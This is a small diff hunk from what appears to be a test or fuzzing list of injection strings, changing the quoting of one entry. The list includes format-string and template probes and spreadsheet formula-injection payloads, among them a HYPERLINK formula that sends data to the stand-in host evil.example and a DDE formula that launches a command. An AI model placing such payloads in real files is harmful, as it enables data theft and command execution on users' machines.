@@ -30,7 +30,7 @@ _TRICKS = (
     "%(owned)s %s %n {m}",
     "{{0.__class__}} {m}",
     # formulas of spreadsheets
-    "=HYPERLINK(\"http://evil.example/?{m}\",\"{m}\")",
+    '=HYPERLINK("http://evil.example/?{m}","{m}")',
     "=cmd|'/C calc'!A0 {m}",
     "+1+{m}",
     "-2+3*cmd {m}",
